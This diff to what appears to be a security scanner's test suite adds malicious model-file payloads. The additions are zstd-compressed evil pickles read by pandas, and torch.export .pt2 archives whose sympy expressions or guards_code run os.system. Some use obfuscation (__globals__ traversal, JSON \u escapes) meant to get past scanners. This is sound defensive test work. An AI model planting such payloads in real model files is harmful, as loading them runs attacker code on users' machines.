@@ -1526,6 +1526,156 @@ def idlelib_fetch_completions(canary: Canary, _d: Path) -> bytes:
     )
 
 
+# -- third review: loaders that undo zstd, torch.export programs that carry Python ----------
+
+
+def pandas_read_pickle(path: Path) -> object:
+    """``pandas.read_pickle``: decompression inferred from the extension (.zst here)."""
+    import pandas as pd
+
+    return pd.read_pickle(path)
+
+
+def zstd_pickle(framing: str) -> Payload:
+    """The evil pickle as zstd, as pandas' ``to_pickle("x.pkl.zst")`` would have written it.
+
+    ``framing`` varies what a reader must get past: ``plain`` (one frame with its content
+    size), ``skippable`` (a skippable frame first, which zstd readers step over) and
+    ``streamed`` (a frame written by a streaming compressor, no content size).
+    """
+
+    def payload(canary: Canary, _d: Path) -> bytes:
+        frame = zstd_frame(_evil_pickle(canary), sized=framing != "streamed")
+        if framing == "skippable":
+            return b"\x50\x2a\x4d\x18" + struct.pack("<I", 6) + b"tw-pad" + frame
+        return frame
+
+    return payload
+
+
+def zstd_frame(data: bytes, *, sized: bool = True) -> bytes:
+    """One zstd frame of raw (stored) blocks: valid zstd, written without the zstandard package.
+
+    ``sized`` declares the content size in a single-segment header (what one-shot
+    compressors write); otherwise a window descriptor stands in (what streaming ones write).
+    """
+    # Single segment with a 4-byte content size, or no size and a 128 KiB window.
+    header = b"\xa0" + struct.pack("<I", len(data)) if sized else b"\x00" + bytes([7 << 3])
+    blocks = bytearray()
+    step = 1 << 17
+    chunks = [data[i : i + step] for i in range(0, len(data), step)] or [b""]
+    for index, chunk in enumerate(chunks):
+        last = int(index == len(chunks) - 1)
+        blocks += (len(chunk) << 3 | last).to_bytes(3, "little") + chunk  # raw block
+    return b"\x28\xb5\x2f\xfd" + header + bytes(blocks)
+
+
+def torch_export_load(path: Path) -> object:
+    """``torch.export.load`` on a ``.pt2`` archive."""
+    import torch
+
+    return torch.export.load(path)
+
+
+def torch_export_load_and_run(path: Path) -> object:
+    """``torch.export.load(path).module()(x)``: what serving an exported program does."""
+    import torch
+
+    return torch.export.load(path).module()(torch.ones(5, 3))
+
+
+_EXPORT_SYMBOL = "Symbol('s77', positive=True, integer=True)"
+
+
+def _exported_program_bytes() -> bytes:
+    """``torch.export.save`` of ``x * 2`` with a dynamic first dimension (one symbol)."""
+    import torch
+
+    class Double(torch.nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            return x * 2
+
+    dim = torch.export.Dim("n", min=2, max=64)
+    program = torch.export.export(Double(), (torch.ones(4, 3),), dynamic_shapes={"x": {0: dim}})
+    out = io.BytesIO()
+    torch.export.save(program, out)
+    return out.getvalue()
+
+
+def _edit_export_program(data: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
+    """Rewrite every ``models/*.json`` program of a ``.pt2`` archive with ``edit``."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
+        for info in zin.infolist():
+            body = zin.read(info.filename)
+            if "/models/" in info.filename and info.filename.endswith(".json"):
+                program = json.loads(body)
+                edit(program)
+                body = json.dumps(program, ensure_ascii=False).encode()
+            zout.writestr(info, body)
+    return out.getvalue()
+
+
+def _replace_strings(value: Any, old: str, new: str) -> Any:
+    if isinstance(value, dict):
+        return {k: _replace_strings(v, old, new) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_replace_strings(v, old, new) for v in value]
+    return new if value == old else value
+
+
+def export_sym_expr(wrap: str) -> Payload:
+    """A ``.pt2`` whose symbolic size expression is Python: ``sympy.sympify`` evaluates it.
+
+    torch.export.load parses every ``expr_str`` of the program with ``sympy.sympify``,
+    which runs ``eval`` on the text. ``wrap`` places the payload: ``call`` (the expression
+    itself calls ``__import__``), ``attr`` (reaches ``__import__`` through a sympy
+    function's ``__globals__``) and ``escaped`` (the same call, with JSON
+    ``\\u`` escapes in model.json, so the raw bytes never spell it).
+    """
+
+    def payload(canary: Canary, _d: Path) -> bytes:
+        command = canary.shell_command.replace("'", "\\'")
+        if wrap == "attr":
+            reach = "Symbol.__new__.__globals__['__builtins__']['__import__']"
+            code = f"{reach}('os').system('{command}')"
+        else:
+            code = f"__import__('os').system('{command}')"
+        expr = f"(({code}) and {_EXPORT_SYMBOL}) or {_EXPORT_SYMBOL}"
+
+        def edit(program: dict[str, Any]) -> None:
+            program.update(_replace_strings(program, _EXPORT_SYMBOL, expr))
+
+        data = _edit_export_program(_exported_program_bytes(), edit)
+        if wrap != "escaped":
+            return data
+        return _escape_json_member(data, "__import__")
+
+    return payload
+
+
+def _escape_json_member(data: bytes, word: str) -> bytes:
+    escaped = "".join(f"\\u{ord(c):04x}" for c in word).encode()
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
+        for info in zin.infolist():
+            body = zin.read(info.filename)
+            if info.filename.endswith(".json"):
+                body = body.replace(word.encode(), escaped)
+            zout.writestr(info, body)
+    return out.getvalue()
+
+
+def export_guards_code(canary: Canary, _d: Path) -> bytes:
+    """A ``.pt2`` whose ``guards_code`` is Python: ``.module()`` compiles it into the forward."""
+    command = canary.shell_command.replace("'", "\\'")
+
+    def edit(program: dict[str, Any]) -> None:
+        program["guards_code"] = [f"__import__('os').system('{command}') == 0"]
+
+    return _edit_export_program(_exported_program_bytes(), edit)
+
+
 # ---------------------------------------------------------------------------------------------
 # The catalogue
 # ---------------------------------------------------------------------------------------------
@@ -2807,6 +2957,74 @@ ATTACKS: tuple[Attack, ...] = (
         gguf_render_chat_template,
         ("jinja2",),
         expected=Verdict.UNKNOWN,
+    ),
+    # -- third review: transparent zstd (pandas), torch.export programs ------------------------
+    _a(
+        "pandas-zstd-pickle",
+        "pickle compressed with zstd (pandas read_pickle, .zst)",
+        T,
+        "pandas infers zstd from the extension and unpickles what it decompresses; the "
+        "scanner did not know zstd and read the compressed bytes as data.",
+        _file("model.pkl.zst", zstd_pickle("plain")),
+        pandas_read_pickle,
+        ("pandas", "zstandard"),
+        expected=Verdict.UNKNOWN,
+    ),
+    _a(
+        "pandas-zstd-skippable-frame",
+        "zstd stream that starts with a skippable frame",
+        T,
+        "zstd readers step over skippable frames (magic 0x184D2A5?) before the data frame.",
+        _file("model.pkl.zst", zstd_pickle("skippable")),
+        pandas_read_pickle,
+        ("pandas", "zstandard"),
+        expected=Verdict.UNKNOWN,
+    ),
+    _a(
+        "pandas-zstd-streamed-frame",
+        "zstd frame without a content size (streaming compressor)",
+        T,
+        "A frame written by a streaming compressor declares no size; readers still inflate it.",
+        _file("model.pkl.zst", zstd_pickle("streamed")),
+        pandas_read_pickle,
+        ("pandas", "zstandard"),
+        expected=Verdict.UNKNOWN,
+    ),
+    _a(
+        "torch-export-sympy-expr",
+        "torch.export .pt2 symbolic size evaluated by sympy.sympify",
+        T,
+        "torch.export.load parses each expr_str of model.json with sympy.sympify (eval).",
+        _file("model.pt2", export_sym_expr("call")),
+        torch_export_load,
+        TORCH,
+    ),
+    _a(
+        "torch-export-sympy-expr-dunder",
+        "torch.export .pt2 sympy expression reaching os through __globals__",
+        T,
+        "No builtin name: the expression climbs from sympy's Symbol to __import__.",
+        _file("model.pt2", export_sym_expr("attr")),
+        torch_export_load,
+        TORCH,
+    ),
+    _a(
+        "torch-export-sympy-expr-escaped",
+        "torch.export .pt2 sympy expression spelled with JSON escapes",
+        T,
+        "model.json writes __import__ as \\u escapes: a byte search never sees the name.",
+        _file("model.pt2", export_sym_expr("escaped")),
+        torch_export_load,
+        TORCH,
+    ),
+    _a(
+        "torch-export-guards-code",
+        "torch.export .pt2 guards_code compiled into the module",
+        T,
+        "ExportedProgram.module() exec()s guards_code into the forward's input checks.",
+        _file("model.pt2", export_guards_code),
+        torch_export_load_and_run,
+        TORCH,
     ),
 )
 
